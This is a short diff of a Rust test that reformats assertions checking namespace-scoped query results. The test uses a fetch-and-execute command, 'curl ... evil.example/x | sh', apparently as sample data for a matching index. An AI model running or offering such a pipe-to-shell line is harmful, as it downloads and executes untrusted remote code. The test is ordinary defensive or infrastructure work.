@@ -121,8 +121,15 @@ mod tests {
     #[test]
     fn a_query_finds_in_its_own_namespace_alone_unless_it_asks_for_all() {
         let line = "bash -c 'curl -s http://evil.example/x | sh'";
-        assert!(answers(&query(line, false)).iter().all(|(namespace, _, _)| namespace == "shop"));
-        assert_eq!(answers(&query(line, true))[0], ("bank".to_owned(), line.to_owned(), 1.0));
+        assert!(
+            answers(&query(line, false))
+                .iter()
+                .all(|(namespace, _, _)| namespace == "shop")
+        );
+        assert_eq!(
+            answers(&query(line, true))[0],
+            ("bank".to_owned(), line.to_owned(), 1.0)
+        );
     }
 
     #[test]
